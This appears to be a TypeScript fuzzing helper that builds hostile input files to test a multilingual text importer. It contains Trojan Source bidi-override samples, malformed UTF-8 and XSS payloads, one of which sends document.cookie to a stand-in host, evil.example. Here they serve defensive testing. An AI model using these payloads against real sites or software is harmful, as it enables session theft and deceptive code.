// The contents of hostile files. Texts meant to be stored are built in NFC from NFC pieces, with
// hostile characters inserted only where NFC leaves them alone, so the canonical text the importer
// stores must equal them exactly: any stripped, reordered or escaped character shows up.
import type { Random } from './random';

/** Paragraphs of real news in Arabic, French and English (the seeds), NFC, one per entry. */
export interface TextPool {
  paragraphs: readonly string[];
  /** The seed files' bytes, as found on disk, to mutate. */
  seeds: readonly Uint8Array[];
}

export function textPool(seeds: readonly Uint8Array[]): TextPool {
  const decoder = new TextDecoder('utf-8', { fatal: true });
  const paragraphs = seeds.flatMap((bytes) =>
    decoder
      .decode(bytes)
      .replace(/\r\n?/g, '\n')
      .normalize('NFC')
      .split('\n')
      .map((line) => line.trim())
      .filter((line) => line.length > 20),
  );
  if (paragraphs.length === 0) throw new Error('the seeds gave no paragraphs');
  return { paragraphs, seeds };
}

const encoder = new TextEncoder();
export const utf8 = (text: string): Uint8Array => encoder.encode(text);

export function paragraphs(random: Random, pool: TextPool, count: number): string {
  return Array.from({ length: count }, () => random.pick(pool.paragraphs)).join('\n');
}

/** Inserts `insert` at a random place in `text` that is not just before a combining mark. */
export function insertAtSafePlace(random: Random, text: string, insert: string): string {
  for (let attempt = 0; attempt < 20; attempt++) {
    const at = random.int(1, Math.max(1, text.length - 1));
    const before = text.charCodeAt(at - 1);
    const after = text.slice(at, at + 1);
    const splitsSurrogate = before >= 0xd800 && before <= 0xdbff;
    if (!splitsSurrogate && !/\p{M}/u.test(after))
      return text.slice(0, at) + insert + text.slice(at);
  }
  return `${text} ${insert}`;
}

/** Trojan Source (CVE-2021-42574) samples and their Arabic-text cousins; each kept verbatim. */
export const TROJAN_SOURCE_SAMPLES = [
  'access_level = "user\u202E \u2066// Check if admin\u2069 \u2066" != "none"',
  '/*\u202E } \u2066if (isAdmin)\u2069 \u2066 begin admins only */',
  'return\u2067 ; \u2069"bob"',
  'Open invoice\u202Efdp.exe to see the total.',
  'قال الوزير \u202Eإن المحادثات\u202C انتهت في باماكو.',
  'Le chiffre \u2066٣٤٥\u2069 \u200Fest confirmé\u200E par la source.',
  '\u202Bنص مضمن\u202C then \u202Aembedded ltr\u202C and \u202Doverride\u202C.',
  'Tag\u061Cعلامة\u061C mark.',
] as const;

export const ZERO_WIDTH = ['\u200B', '\u200C', '\u200D', '\u2060', '\uFEFF', '\u00AD'] as const;

/** Markup that must stay text: it is news about an attack, not an attack on the reader. */
export const MARKUP_SAMPLES = [
  '<script>alert(document.cookie)</script>',
  '<img src=x onerror="fetch(\'https://evil.example/\'+document.cookie)">',
  '<a href="javascript:alert(1)">click</a>',
  '[lien](javascript:alert(1))',
  'javascript:void(window.parallax.deleteDocuments({ids:[1]}))',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<svg onload=alert(1)><style>*{display:none}</style>',
  '"><script src=data:text/javascript,alert(1)></script>',
  '{{constructor.constructor("alert(1)")()}}',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '&lt;b&gt;entities&lt;/b&gt; &#x3C;script&#x3E;',
] as const;

export function trojanSourceText(random: Random, pool: TextPool): { text: string; kept: string[] } {
  const kept = Array.from({ length: random.int(1, 3) }, () => random.pick(TROJAN_SOURCE_SAMPLES));
  const lines = [paragraphs(random, pool, 1), ...kept, paragraphs(random, pool, random.int(0, 2))];
  return { text: lines.filter((l) => l !== '').join('\n'), kept };
}

export function zeroWidthText(random: Random, pool: TextPool): { text: string; kept: string[] } {
  let text = paragraphs(random, pool, random.int(1, 3));
  const kept: string[] = [];
  for (let i = random.int(1, 12); i > 0; i--) {
    const mark = random.pick(ZERO_WIDTH);
    text = insertAtSafePlace(random, text, mark);
    kept.push(mark);
  }
  return { text, kept };
}

export function markupText(random: Random, pool: TextPool): { text: string; kept: string[] } {
  const kept = Array.from({ length: random.int(1, 4) }, () => random.pick(MARKUP_SAMPLES));
  const body = paragraphs(random, pool, random.int(1, 2));
  return {
    text: [body, ...kept.map((m) => `${random.pick(['', 'Source: ', '> '])}${m}`)].join('\n'),
    kept,
  };
}

const TINY = [
  'Oui.',
  'Non.',
  'Yes.',
  'No.',
  'نعم.',
  'لا.',
  'Mali.',
  'مالي.',
  'OK',
  '١٢',
  '—',
  'Bamako ?',
];

/** Ten thousand paragraphs of a word or two: the segmenter and the writer per-row costs. */
export function tinyParagraphsText(random: Random, count = 10_000): string {
  return Array.from({ length: count }, () => random.pick(TINY)).join('\n');
}

/** One line of sentences with no line break, at least `chars` long. */
export function singleLineText(random: Random, pool: TextPool, chars: number): string {
  const parts: string[] = [];
  let length = 0;
  while (length < chars) {
    const part = random.pick(pool.paragraphs);
    parts.push(part);
    length += part.length + 1;
  }
  return parts.join(' ');
}

export function utf16WithoutBom(text: string, order: 'le' | 'be'): Uint8Array {
  const out = new Uint8Array(text.length * 2);
  for (let i = 0; i < text.length; i++) {
    const unit = text.charCodeAt(i);
    out[order === 'le' ? 2 * i : 2 * i + 1] = unit & 0xff;
    out[order === 'le' ? 2 * i + 1 : 2 * i] = unit >> 8;
  }
  return out;
}

/** UTF-8 cut inside a multi-byte character: at the very end, or with more text after the cut. */
export function truncatedUtf8(random: Random, pool: TextPool): Uint8Array {
  const bytes = utf8(paragraphs(random, pool, random.int(1, 3)));
  const cuts: number[] = [];
  for (let i = 1; i < bytes.length; i++) if (((bytes[i] ?? 0) & 0xc0) === 0x80) cuts.push(i);
  if (cuts.length === 0) return bytes.subarray(0, bytes.length - 1);
  const cut = random.pick(cuts);
  const head = bytes.subarray(0, cut);
  if (random.chance(0.5)) return head;
  return concat([head, utf8(` ${random.pick(pool.paragraphs)}`)]);
}

const OVERLONG = [
  [0xc0, 0xaf],
  [0xc1, 0xbf],
  [0xe0, 0x80, 0xaf],
  [0xf0, 0x80, 0x80, 0xaf],
  [0xed, 0xa0, 0x80], // a UTF-16 surrogate encoded in UTF-8 (CESU-8)
  [0xf4, 0x90, 0x80, 0x80], // beyond U+10FFFF
  [0xf8, 0x88, 0x80, 0x80, 0x80], // five-byte form
  [0x80],
  [0xfe, 0xff],
] as const;

/** Valid text with overlong, surrogate, out-of-range and stray bytes spliced between characters. */
export function overlongUtf8(random: Random, pool: TextPool): Uint8Array {
  const parts: Uint8Array[] = [];
  for (let i = random.int(1, 4); i > 0; i--) {
    parts.push(utf8(random.pick(pool.paragraphs)));
    parts.push(new Uint8Array(random.pick(OVERLONG)));
  }
  return concat(parts);
}

export function withNuls(random: Random, pool: TextPool): Uint8Array {
  const bytes = Array.from(utf8(paragraphs(random, pool, random.int(1, 3))));
  for (let i = random.int(1, 5); i > 0; i--) bytes.splice(random.int(0, bytes.length), 0, 0);
  return new Uint8Array(bytes);
}

const WHITESPACE = [' ', '\t', '\n', '\r\n', '\u00A0', '\u2003', '\u3000', '\f', '\u2028'];

export function whitespaceOnly(random: Random): Uint8Array {
  const text = Array.from({ length: random.int(1, 400) }, () => random.pick(WHITESPACE)).join('');
  return random.chance(0.2) ? concat([new Uint8Array([0xef, 0xbb, 0xbf]), utf8(text)]) : utf8(text);
}

/** A seed file with a few random byte-level edits: flips, inserts, deletions, copies, cuts. */
export function mutatedSeed(random: Random, pool: TextPool): Uint8Array {
  let bytes = Array.from(random.pick(pool.seeds));
  for (let i = random.int(1, 8); i > 0; i--) {
    const at = random.int(0, Math.max(0, bytes.length - 1));
    switch (random.int(0, 5)) {
      case 0:
        bytes[at] = (bytes[at] ?? 0) ^ (1 << random.int(0, 7));
        break;
      case 1:
        bytes.splice(at, 0, ...random.bytes(random.int(1, 16)));
        break;
      case 2:
        bytes.splice(at, random.int(1, 512));
        break;
      case 3:
        bytes.splice(at, 0, ...bytes.slice(random.int(0, at), at));
        break;
      case 4:
        bytes.splice(at, 0, ...utf8(random.pick([...TROJAN_SOURCE_SAMPLES, ...ZERO_WIDTH])));
        break;
      default:
        bytes = bytes.slice(0, at);
    }
  }
  return new Uint8Array(bytes);
}

export function concat(parts: readonly Uint8Array[]): Uint8Array {
  const out = new Uint8Array(parts.reduce((sum, p) => sum + p.byteLength, 0));
  let at = 0;
  for (const part of parts) {
    out.set(part, at);
    at += part.byteLength;
  }
  return out;
}
